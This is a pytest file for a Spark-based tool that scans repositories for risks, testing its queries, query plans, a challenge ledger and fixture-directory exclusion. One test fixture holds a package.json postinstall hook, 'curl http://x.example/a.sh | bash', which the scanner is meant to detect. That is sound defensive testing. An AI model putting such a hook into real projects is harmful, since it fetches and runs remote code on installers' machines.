"""Registered queries against their SQL on the smallest tables, and plan shape."""

import duckdb
import pytest

from workload import all_queries
from workload.check import TABLES, rows_of
from workload.registry import Tables

FOLDER = "/root/testdata/sf0.001"
SAMPLE = (
    "r1_scan_literals", "r5_scan_json_scripts", "r9_scan_masked_lines", "r12_scan_blocks", "r14_classify_links", "r17_scan_commands",
    "f18_classify_scope", "a5_evaluate_policy", "a7_explain_selection", "j3_match_approval", "j5_diff_reports", "w2_cap_findings",
    "w6_verify_chain", "g8_node_budget", "j9_resolve_targets", "s1_read_repo_files", "s10_migrate_approvals", "t3_stream_confirmations",
    "t7_stream_sessions", "x2_scan_needles",
)


@pytest.fixture(scope="module")
def con():
    connection = duckdb.connect()
    for table in TABLES.split():
        connection.execute(f"CREATE VIEW {table} AS SELECT * FROM '{FOLDER}/{table}.parquet'")
    return connection


@pytest.mark.parametrize("name", SAMPLE)
def test_query_matches_sql(spark, con, name):
    queries, oracles = all_queries()
    assert rows_of(queries[name](spark, FOLDER).toPandas()) == rows_of(con.execute(oracles[name]).df())


def test_every_check_has_a_query():
    queries, oracles = all_queries()
    assert set(oracles) <= set(queries)


def test_text_is_read_once_and_not_shuffled(spark):
    from riskspark.operators import scan as S

    plan = S.scan(Tables(spark, FOLDER).files)._jdf.queryExecution().executedPlan().toString()
    assert plan.count("FileScan") == 1 and "Exchange hashpartitioning" not in plan and "SortMergeJoin" not in plan


def test_path_filter_prunes_columns(spark):
    from riskspark.operators import files as FS

    plan = FS.critical_files(Tables(spark, FOLDER).files).select("path")._jdf.queryExecution().executedPlan().toString()
    assert "ReadSchema: struct<path:string>" in plan


def test_challenge_ledger(spark):
    """Rate, replay, expiry and unknown challenges of one manager."""
    from pyspark.sql import functions as F

    from riskspark.session import scratch_path
    from riskspark.streaming.stateful import stream_state_machine
    from workload.q_streaming import settle, stream_of

    base = 1_700_000_000
    rows = [("m", i, f"c{i}", "issue", base + i) for i in range(33)]
    rows += [("m", 40, "c0", "consume", base + 40), ("m", 41, "c0", "consume", base + 41), ("m", 42, "zz", "consume", base + 42)]
    rows += [("m", 43, "c1", "consume", base + 301), ("m", 44, "c44", "issue", base + 500)]
    path = scratch_path(spark, "ledger")
    spark.createDataFrame(rows, "manager string, event_id bigint, challenge_id string, action string, at bigint").select(
        "manager", "event_id", "challenge_id", "action", F.timestamp_seconds("at").alias("ts")
    ).write.parquet(path)
    tables = Tables(spark, FOLDER)
    out = settle(tables, stream_state_machine(stream_of(tables, spark.read.parquet(path))))
    got = {r.event_id: r.outcome for r in out.collect()}
    assert [got[i] for i in range(32)] == ["issued"] * 32
    assert [got[i] for i in (32, 40, 41, 42, 43, 44)] == ["rate_limited", "consumed", "replayed", "unknown", "expired", "issued"]


def test_marked_dirs(spark):
    """Excluded are exactly the paths below a directory that holds the marker."""
    from riskspark.catalogue.files import FIXTURE_MARKER
    from riskspark.operators import files as FS

    files = Tables(spark, FOLDER).files.select("repo_id", "snapshot_id", "path")
    rows = [tuple(r) for r in files.collect()]
    marked = {(r, s, p.rpartition("/")[0]) for r, s, p in rows if p.rpartition("/")[2] == FIXTURE_MARKER and "/" in p}
    above = lambda p: ["/".join(p.split("/")[:n]) for n in range(1, p.count("/") + 1)]
    assert {tuple(x) for x in FS.exclude_marked_dirs(files).collect()} == {
        (r, s, p) for r, s, p in rows if not any((r, s, d) in marked for d in above(p))
    }


def test_marked_dirs_in_the_whole_analysis(spark):
    """A marker is no critical file, yet excludes its directory end to end."""
    from riskspark.catalogue.files import FIXTURE_MARKER
    from riskspark.plans.assess import repository_findings

    script = '{"scripts": {"postinstall": "curl http://x.example/a.sh | bash"}}'
    rows = [("r", "s", f"{d}/package.json", script) for d in ("fixtures", "app")] + [("r", "s", f"fixtures/{FIXTURE_MARKER}", "")]
    files = spark.createDataFrame(rows, "repo_id string, snapshot_id string, path string, text string")
    found = {r.file for r in repository_findings(files).collect()}
    assert "app/package.json" in found and "fixtures/package.json" not in found


def test_fingerprint_has_no_limit_by_default(spark):
    """A snapshot of any size has a digest; a limit that is asked for refuses larger ones."""
    import hashlib

    from riskspark.operators.files import fingerprint

    names = [f"d/{i:05d}" for i in range(6000)]
    files = spark.createDataFrame([("r", "s", n, bytearray(n.encode())) for n in names], "repo_id string, snapshot_id string, path string, content binary")
    lines = "\n".join(f"{n}:{hashlib.sha256(n.encode()).hexdigest()}" for n in names)
    assert fingerprint(files).first().fingerprint == "sha256:" + hashlib.sha256(lines.encode()).hexdigest()
    assert fingerprint(files, 5000).first().error_code == "limit-exceeded"
